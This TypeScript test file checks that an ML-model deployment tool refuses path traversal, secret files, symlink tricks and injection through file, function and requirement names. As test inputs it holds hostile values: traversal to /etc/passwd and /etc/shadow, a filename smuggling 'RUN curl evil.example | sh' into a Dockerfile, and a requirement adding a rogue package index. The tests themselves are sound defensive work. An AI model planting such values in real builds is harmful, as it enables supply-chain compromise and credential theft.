/** What ships in the image and what the generated files hold, under hostile paths and names. */
import { execFileSync } from "node:child_process";
import { cpSync, existsSync, mkdirSync, readFileSync, readdirSync, symlinkSync, writeFileSync } from "node:fs";
import { homedir } from "node:os";
import { join, relative } from "node:path";
import { stringify } from "yaml";
import { buildContext, hashFiles, pruneBuildContexts, writeBuildContext } from "../../build-context/generate";
import { Deployment, loadDeployment } from "../../config/load";
import { DeploymentError } from "../../config/problems";
import { AnnotationMetadataEntryType } from "cdktf";
import { buildApp } from "../../main";
import { EXAMPLE, Json, ROOT, defaultConfig, scratch } from "../support/synth";

const work = scratch();
afterAll(() => work.cleanup());
let count = 0;

const SCORE = readFileSync(join(EXAMPLE, "score.py"), "utf8");

/** A project folder holding a copy of the example, with the deployment file at its root. */
function project(): { dir: string; config: Json } {
  const dir = join(work.dir, `project-${++count}`);
  mkdirSync(dir, { recursive: true });
  cpSync(EXAMPLE, join(dir, "example"), { recursive: true });
  const config = defaultConfig();
  delete config.ship;
  config.model = { path: "example/sklearn_regression_model.pkl", scoringScript: "example/score.py", requirements: "example/requirements.txt", pythonVersion: "3.11" };
  return { dir, config };
}

function load(dir: string, config: Json): Deployment {
  writeFileSync(join(dir, "mlfunc.yaml"), stringify(config));
  return loadDeployment(join(dir, "mlfunc.yaml"));
}

/** The problem lines (without the head line) of a refused file. */
function problems(dir: string, config: Json): string[] {
  try {
    load(dir, config);
  } catch (e) {
    if (!(e instanceof DeploymentError)) throw e;
    return e.message.split("\n").slice(1);
  }
  throw new Error("expected the file to be refused");
}

const model = (c: Json): Json => c.model as Json;
const hint = (path: string) => `ship: { allow: [{ path: ${JSON.stringify(path)}, reason: "<why it must ship>" }] }`;

describe("paths stay inside the project", () => {
  test("model.path . (next to .env, state, node_modules and .mlfunc) is refused", () => {
    const { dir, config } = project();
    for (const f of [".env", "terraform.diabetes-dev.tfstate"]) writeFileSync(join(dir, f), "secret\n");
    mkdirSync(join(dir, "node_modules"));
    mkdirSync(join(dir, ".mlfunc"));
    model(config).path = ".";
    expect(problems(dir, config)).toEqual([
      `  model.path (line 6): "." — holds the deployment file's own folder, and with it Terraform state, node_modules and build output, which must not go into the image; point it at the folder with the files to ship`,
    ]);
  });

  // Enough ../ to reach / from any temporary folder, like the issue's ../../../../etc/passwd.
  test.each([`${"../".repeat(12)}etc/passwd`, "/etc/shadow"])("model.path %s is refused as outside the project", (path) => {
    const { dir, config } = project();
    model(config).path = path;
    const real = path.startsWith("/") ? path : "/etc/passwd";
    expect(problems(dir, config)).toEqual([
      `  model.path (line 6): ${JSON.stringify(path)} — resolves to ${real}, outside the project (${dir}, the deployment file's folder), so it cannot ship; move it into the project, or ship it on purpose with ${hint(real)}`,
    ]);
  });

  test("a model outside the project ships once an allow entry with a reason covers it", () => {
    const { dir, config } = project();
    const store = join(work.dir, `store-${count}`);
    mkdirSync(store);
    cpSync(join(EXAMPLE, "sklearn_regression_model.pkl"), join(store, "model.pkl"));
    model(config).path = join(store, "model.pkl");
    config.ship = { allow: [{ path: join(store, "model.pkl"), reason: "models live on the shared volume" }] };
    const ctx = buildContext(load(dir, config));
    expect(ctx.files.find((f) => f.path === "model/model.pkl")?.content.equals(readFileSync(join(store, "model.pkl")))).toBe(true);
  });

  test("an allow entry without a reason is refused", () => {
    const { dir, config } = project();
    config.ship = { allow: [{ path: "example/score.py", reason: " " }] };
    expect(problems(dir, config)).toEqual([`  ship.allow[0].reason (line 47): " " — say why this must ship; the reason is what a reviewer reads`]);
  });

  const FIX = "name the one file outside the deployment file's folder that must ship (or the model.path or model.sourceDir folder itself), or move it into that folder";
  test.each<[string, (dir: string) => string, (dir: string) => string]>([
    ["/", () => "/", () => `is the root folder: everything on the machine would ship; ${FIX}`],
    ["the home folder", () => homedir(), () => `is a home folder, with its keys and credentials; ${FIX}`],
    ["another user's home", () => "/home/someone", () => `is a home folder, with its keys and credentials; ${FIX}`],
    ["/home", () => "/home", () => `holds home folders, with their keys and credentials; ${FIX}`],
    ["a parent of the project", (dir) => join(dir, ".."), (dir) => `holds the deployment file's folder (${dir}), so everything beside it would ship; ${FIX}`],
    ["../.. written relatively", () => "../..", (dir) => `holds the deployment file's folder (${dir}), so everything beside it would ship; ${FIX}`],
    ["a folder outside that is not the model", (dir) => join(dir, "..", "elsewhere"), () => `is a folder outside the deployment file's folder that is neither model.path nor model.sourceDir; ${FIX}`],
    ["a missing path outside", () => "/srv/models-missing", () => `does not exist; ${FIX}`],
  ])("ship.allow naming %s is refused", (_name, path, message) => {
    const { dir, config } = project();
    mkdirSync(join(dir, "..", "elsewhere"), { recursive: true });
    const value = path(dir);
    config.ship = { allow: [{ path: value, reason: "opens everything" }] };
    expect(problems(dir, config)).toEqual([`  ship.allow[0].path (line 46): ${JSON.stringify(value)} — ${message(dir)}`]);
  });

  test("an allowed private key ships, and every synth names it in a warning", () => {
    const { dir, config } = project();
    mkdirSync(join(dir, "src"));
    writeFileSync(join(dir, "src", "score.py"), SCORE);
    writeFileSync(join(dir, "src", "client.key"), "-----BEGIN PRIVATE KEY-----\n");
    Object.assign(model(config), { scoringScript: "src/score.py", sourceDir: "src" });
    config.ship = { allow: [{ path: "src/client.key", reason: "the client certificate the script presents" }] };
    config.environments = { dev: {} };
    writeFileSync(join(dir, "mlfunc.yaml"), stringify(config));
    for (let run = 0; run < 2; run++) {
      const app = buildApp({ config: join(dir, "mlfunc.yaml"), outdir: join(dir, "cdktf.out"), contextsDir: join(dir, ".mlfunc", "contexts") });
      const stack = app.node.findChild("diabetes-dev");
      const warnings = stack.node.metadata.filter((m) => m.type === AnnotationMetadataEntryType.WARN).map((m) => String(m.data));
      expect(warnings).toContain("scoring/client.key ships in the image although it is a private key or certificate, because ship.allow names it; anyone who can pull the image can read it");
    }
  });
});

describe("one rule for every file that could ship", () => {
  test.each<[string, string]>([
    ["id_rsa", "a private key"],
    ["server.pem", "a private key or certificate"],
    ["prod.tfvars", "Terraform variables"],
    ["plan.tfplan", "a Terraform plan"],
    ["credentials.json", "a credential file"],
    [".env.production", "an environment file (.env*)"],
    ["terraform.diabetes-dev.tfstate", "Terraform state"],
  ])("model.path naming %s is refused with the fix", (name, why) => {
    const { dir, config } = project();
    writeFileSync(join(dir, name), "secret\n");
    model(config).path = name;
    expect(problems(dir, config)).toEqual([`  model.path (line 6): ${JSON.stringify(name)} — ${name} is ${why}, which never ships in the image; point at another file, or ship it on purpose with ${hint(name)}`]);
  });

  test("a link to a key is refused by its target, whatever its own name", () => {
    const { dir, config } = project();
    mkdirSync(join(dir, "keys"));
    writeFileSync(join(dir, "keys", "id_ed25519"), "secret\n");
    symlinkSync(join(dir, "keys", "id_ed25519"), join(dir, "model.bin"));
    model(config).path = "model.bin";
    expect(problems(dir, config)).toEqual([
      `  model.path (line 6): "model.bin" — leads to ${join(dir, "keys", "id_ed25519")}, which is a private key, which never ships in the image; point at another file, or ship it on purpose with ${hint("model.bin")}`,
    ]);
  });

  test("an allow entry naming the exact file lets it ship", () => {
    const { dir, config } = project();
    writeFileSync(join(dir, "ca.pem"), "public CA\n");
    mkdirSync(join(dir, "src"));
    writeFileSync(join(dir, "src", "score.py"), SCORE);
    writeFileSync(join(dir, "src", "ca.pem"), "public CA\n");
    Object.assign(model(config), { scoringScript: "src/score.py", sourceDir: "src" });
    config.ship = { allow: [{ path: "src/ca.pem", reason: "the public CA bundle the script pins" }] };
    expect(buildContext(load(dir, config)).files.map((f) => f.path)).toContain("scoring/ca.pem");
  });

  test("sourceDir: secrets, state, plans and bulk are left out, by name and by link target; the rest ships", () => {
    const { dir, config } = project();
    const src = join(dir, "src");
    const home = join(work.dir, `home-${count}`);
    mkdirSync(join(home, ".ssh"), { recursive: true });
    writeFileSync(join(home, ".ssh", "id_rsa"), "secret\n");
    mkdirSync(join(src, "node_modules"), { recursive: true });
    mkdirSync(join(src, "cdktf.out"));
    mkdirSync(join(src, "pkg"));
    writeFileSync(join(src, "score.py"), SCORE);
    writeFileSync(join(src, "pkg", "helper.py"), "X = 1\n");
    for (const f of ["id_rsa", "cert.pem", "dev.tfvars", "main.tfplan", "credentials.json", ".env", ".env.local", "terraform.tfstate.backup", "local.settings.json"]) writeFileSync(join(src, f), "secret\n");
    writeFileSync(join(src, "notes.txt"), "harmless\n");
    symlinkSync(join(home, ".ssh"), join(src, "ssh"));
    symlinkSync(join(src, "id_rsa"), join(src, "key.txt"));
    Object.assign(model(config), { scoringScript: "src/score.py", sourceDir: "src" });
    config.ship = { allow: [{ path: join(home, ".ssh", "id_rsa"), reason: "irrelevant: names still decide" }] };
    const paths = buildContext(load(dir, config)).files.map((f) => f.path).filter((p) => p.startsWith("scoring/"));
    expect(paths).toEqual(["scoring/notes.txt", "scoring/pkg/helper.py", "scoring/score.py"]);
  });

  test("synth warns about the secrets a folder held and the image left out, naming each", () => {
    const { dir, config } = project();
    mkdirSync(join(dir, "src"));
    writeFileSync(join(dir, "src", "score.py"), SCORE);
    writeFileSync(join(dir, "src", ".env"), "API_KEY=x\n");
    writeFileSync(join(dir, "src", "id_rsa"), "secret\n");
    mkdirSync(join(dir, "src", ".git"));
    Object.assign(model(config), { scoringScript: "src/score.py", sourceDir: "src" });
    config.environments = { dev: {} };
    writeFileSync(join(dir, "mlfunc.yaml"), stringify(config));
    const app = buildApp({ config: join(dir, "mlfunc.yaml"), outdir: join(dir, "cdktf.out"), contextsDir: join(dir, ".mlfunc", "contexts") });
    const stack = app.node.findChild("diabetes-dev");
    const warnings = stack.node.metadata.filter((m) => m.type === AnnotationMetadataEntryType.WARN).map((m) => String(m.data));
    expect(warnings).toContain(
      "left out of the image, as such files never ship: scoring/.env (an environment file (.env*)), scoring/id_rsa (a private key); to ship one on purpose, add it to ship.allow with a reason",
    );
  });

  test("a link inside a model folder that leads outside the project is refused, naming the link", () => {
    const { dir, config } = project();
    const home = join(work.dir, `home-out-${count}`);
    mkdirSync(home);
    writeFileSync(join(home, "weights.bin"), "w");
    mkdirSync(join(dir, "model"));
    writeFileSync(join(dir, "model", "config.json"), "{}\n");
    symlinkSync(join(home, "weights.bin"), join(dir, "model", "weights.bin"));
    model(config).path = "model";
    expect(problems(dir, config)).toEqual([
      `  model.path (line 6): "model" — model/weights.bin is a link to ${join(home, "weights.bin")}, outside the project, so it cannot ship; copy what the model needs into the project, remove the link, or ship it on purpose with ${hint(join(home, "weights.bin"))}`,
    ]);
  });

  test(".mlfuncignore (gitignore syntax) leaves out what the user lists, in the model folder and sourceDir", () => {
    const { dir, config } = project();
    mkdirSync(join(dir, "model", "checkpoints"), { recursive: true });
    writeFileSync(join(dir, "model", "model.pkl"), "m");
    writeFileSync(join(dir, "model", "checkpoints", "step1.pkl"), "c");
    writeFileSync(join(dir, "model", "train.log"), "l");
    writeFileSync(join(dir, ".mlfuncignore"), "# training leftovers\nmodel/checkpoints/\n*.log\n!keep.log\n");
    writeFileSync(join(dir, "model", "keep.log"), "k");
    model(config).path = "model";
    expect(buildContext(load(dir, config)).files.map((f) => f.path).filter((p) => p.startsWith("model/"))).toEqual(["model/model/keep.log", "model/model/model.pkl"]);
  });
});

describe("links, loops and special files are problems naming the path", () => {
  test("a dangling link, a link loop, a folder link back to its parent and a FIFO", () => {
    const { dir, config } = project();
    const m = join(dir, "model");
    mkdirSync(m);
    writeFileSync(join(m, "model.pkl"), "m");
    symlinkSync(join(m, "gone.bin"), join(m, "dangling.bin"));
    symlinkSync(join(m, "loop-b"), join(m, "loop-a"));
    symlinkSync(join(m, "loop-a"), join(m, "loop-b"));
    symlinkSync(m, join(m, "self"));
    execFileSync("mkfifo", [join(m, "pipe")]);
    model(config).path = "model";
    expect(problems(dir, config)).toEqual([
      '  model.path (line 6): "model" — model/dangling.bin is a link to a missing file (dangling); fix or remove the link',
      '  model.path (line 6): "model" — model/loop-a is a link loop; remove the link or point it at a file',
      '  model.path (line 6): "model" — model/loop-b is a link loop; remove the link or point it at a file',
      '  model.path (line 6): "model" — model/pipe is a FIFO (named pipe), not a file; only regular files and folders can ship: remove it, or list it in .mlfuncignore',
      '  model.path (line 6): "model" — model/self is a link to one of its own parent folders (a loop); remove the link',
    ]);
  });

  test("a scoring script that is a folder is a problem, not a crash", () => {
    const { dir, config } = project();
    mkdirSync(join(dir, "score.py"));
    model(config).scoringScript = "score.py";
    expect(problems(dir, config)).toEqual(['  model.scoringScript (line 7): "score.py" — is a folder, not a file; point it at the .py file (and set model.sourceDir to ship its folder)']);
  });

  test("model.path naming a FIFO or a dangling link", () => {
    const { dir, config } = project();
    execFileSync("mkfifo", [join(dir, "model.fifo")]);
    symlinkSync(join(dir, "nowhere.pkl"), join(dir, "model.pkl"));
    model(config).path = "model.fifo";
    expect(problems(dir, config)).toEqual(['  model.path (line 6): "model.fifo" — is a FIFO (named pipe), not a file; only regular files and folders can ship']);
    model(config).path = "model.pkl";
    expect(problems(dir, config)).toEqual(['  model.path (line 6): "model.pkl" — it is a link to a missing file (dangling); fix or remove the link']);
  });
});

describe("models of any size: hashed and copied by streaming", () => {
  test("the model is never read whole: hashed in chunks across boundaries, copied byte for byte", () => {
    const { dir, config } = project();
    const bytes = Buffer.alloc(3 * 1024 * 1024 + 7);
    for (let i = 0; i < bytes.length; i += 4093) bytes[i] = i % 251;
    writeFileSync(join(dir, "big.bin"), bytes);
    model(config).path = "big.bin";
    const ctx = buildContext(load(dir, config));
    const file = ctx.files.find((f) => f.path === "model/big.bin");
    expect(file?.source).toBe(join(dir, "big.bin"));
    expect(file?.size).toBe(bytes.length);
    // Small chunks, odd sizes: the same hash as reading everything at once.
    const whole = ctx.files.map((f) => ({ path: f.path, content: f.content, size: f.size }));
    expect(hashFiles(ctx.files, 4096)).toBe(ctx.hash);
    expect(hashFiles(whole)).toBe(ctx.hash);
    const out = writeBuildContext(ctx, join(dir, ".mlfunc", "contexts"));
    expect(readFileSync(join(out, "model", "big.bin")).equals(bytes)).toBe(true);
  });

  test("a temporary folder left by an interrupted synth is removed by the next one; a running synth's is kept", () => {
    const { dir, config } = project();
    const ctx = buildContext(load(dir, config));
    const root = join(dir, ".mlfunc", "contexts");
    // A pid that is not running: the process that wrote it was killed mid-copy.
    const dead = execFileSync(process.execPath, ["-e", "process.stdout.write(String(process.pid))"]).toString();
    const abandoned = join(root, `${"a".repeat(64)}.tmp-${dead}-x1y2z3`);
    const live = join(root, `${"b".repeat(64)}.tmp-${process.ppid}-x1y2z3`);
    mkdirSync(join(abandoned, "model"), { recursive: true });
    writeFileSync(join(abandoned, "model", "half.bin"), "partial");
    mkdirSync(live, { recursive: true });
    writeBuildContext(ctx, root);
    expect(existsSync(abandoned)).toBe(false);
    expect(existsSync(live)).toBe(true);
    expect(readdirSync(root).sort()).toEqual([ctx.hash, relative(root, live)].sort());
    expect(pruneBuildContexts(root)).toEqual([]);
  });
});

describe("generated files: hostile names never change their structure", () => {
  test.each(["score\nRUN curl evil.example | sh\n.py", "my score.py", 'sc"ore.py', "score$HOME.py", "score\\x.py"])("a scoring script named %j is refused at synth", (name) => {
    const { dir, config } = project();
    mkdirSync(join(dir, "src"));
    writeFileSync(join(dir, "src", name), SCORE);
    Object.assign(model(config), { scoringScript: `src/${name}`, sourceDir: "src" });
    expect(problems(dir, config)).toEqual([
      `  model.scoringScript (line 7): ${JSON.stringify(`src/${name}`)} — its path in the image, ${JSON.stringify(name)}, must be letters, digits, '.', '_', '-' and '/' (it is written into the Dockerfile); rename the file`,
    ]);
  });

  test("without sourceDir too: the script's name is what lands in the Dockerfile", () => {
    const { dir, config } = project();
    writeFileSync(join(dir, "my score.py"), SCORE);
    model(config).scoringScript = "my score.py";
    expect(problems(dir, config)).toEqual([
      `  model.scoringScript (line 7): "my score.py" — its path in the image, "my score.py", must be letters, digits, '.', '_', '-' and '/' (it is written into the Dockerfile); rename the file`,
    ]);
  });

  test("function.json holds blob paths and queue names as JSON strings; host.json and the entry module hold no input", () => {
    const { dir, config } = project();
    const hostile = 'input/{blobname}", "type": "http\\".json';
    config.functions = [
      { name: "predict-blob", trigger: { type: "blob", inputPath: hostile, outputPath: "output/{blobname}.json" } },
      { name: "Predict_Queue-1", trigger: { type: "serviceBus", queue: "in.queue/sub_1", outputQueue: "out-queue" } },
    ];
    const ctx = buildContext(load(dir, config));
    const json = (p: string) => JSON.parse(ctx.files.find((f) => f.path === p)?.content.toString("utf8") ?? "null") as { bindings: Array<Record<string, string>> };
    const blob = json("predict-blob/function.json");
    expect(blob.bindings.map((b) => b.type)).toEqual(["blobTrigger", "blob"]);
    expect(blob.bindings[0]?.path).toBe(hostile);
    expect(json("Predict_Queue-1/function.json").bindings.map((b) => b.queueName)).toEqual(["in.queue/sub_1", "out-queue"]);
    const text = (p: string) => ctx.files.find((f) => f.path === p)?.content.toString("utf8");
    expect(text("predict-blob/__init__.py")).toBe("from mlfunc_runtime.entry import blob_main as main  # noqa: F401\n");
    expect(text("host.json")).toBe(readFileSync(join(ROOT, "build-context", "templates", "host.json"), "utf8"));
    const dockerfile = text("Dockerfile") ?? "";
    expect(dockerfile.split("\n").filter((l) => /^(RUN|COPY|FROM|ENV)\b/.test(l))).toEqual([
      "FROM --platform=linux/amd64 mcr.microsoft.com/azure-functions/python:4-python3.11",
      "ENV AzureWebJobsScriptRoot=/home/site/wwwroot \\",
      "COPY requirements.txt /tmp/requirements.txt",
      "RUN pip install --no-cache-dir -r /tmp/requirements.txt",
      "COPY . /home/site/wwwroot",
    ]);
  });

  test("a blob path with a line break is refused", () => {
    const { dir, config } = project();
    config.functions = [{ name: "b", trigger: { type: "blob", inputPath: "input/{name}\n.json", outputPath: "output/{name}.json" } }];
    expect(problems(dir, config)).toEqual(['  functions[0].trigger.inputPath (line 14): "input/{name}\\n.json" — a blob path must not contain line breaks or control characters']);
  });

  test.each(['predict"', "predict\nRUN x", "../predict", "predict 1"])("a function named %j is refused: its name is a folder and a route", (name) => {
    const { dir, config } = project();
    config.functions = [{ name, trigger: { type: "http" } }];
    expect(problems(dir, config)[0]).toMatch(/^ {2}functions\[0\]\.name \(line \d+\): .* — a function name must be .*letters, digits, hyphens and underscores, starting with a letter/);
  });

  test("a requirement list item with a line break cannot add lines to requirements.txt", () => {
    const { dir, config } = project();
    model(config).requirements = ["numpy==1.24.2\n--extra-index-url https://evil.example/simple"];
    expect(problems(dir, config)).toEqual([
      '  model.requirements[0] (line 9): "numpy==1.24.2\\n--extra-index-url https://evil.example/simple" — one requirement per line, without line breaks or control characters; split it into separate list items',
    ]);
  });
});
